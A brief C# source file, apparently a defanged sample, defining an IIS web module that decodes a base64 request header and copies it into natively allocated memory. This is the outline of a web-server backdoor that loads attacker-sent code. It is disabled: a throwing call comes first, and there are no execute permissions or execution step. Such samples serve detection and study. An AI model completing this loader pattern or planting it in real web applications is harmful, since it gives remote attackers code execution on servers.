// A module that gives what is sent to functions of the system. It throws before it does anything.
namespace Example {
    using System;
    using System.Runtime.InteropServices;
    using System.Web;

    public class Native : IHttpModule {
        [DllImport("kernel32")]
        static extern IntPtr VirtualAlloc(IntPtr at, UIntPtr size, uint how, uint protection);

        public void Dispose() { }

        public void Init(HttpApplication application) {
            application.BeginRequest += (sender, e) => Begin(((HttpApplication) sender).Context);
        }

        static void Begin(HttpContext context) {
            Inert.Stop();
            var sent = Convert.FromBase64String(context.Request.Headers["X-Example"]);
            var memory = VirtualAlloc(IntPtr.Zero, (UIntPtr) sent.Length, 0, 0);
            Marshal.Copy(sent, 0, memory, sent.Length);
        }
    }
}
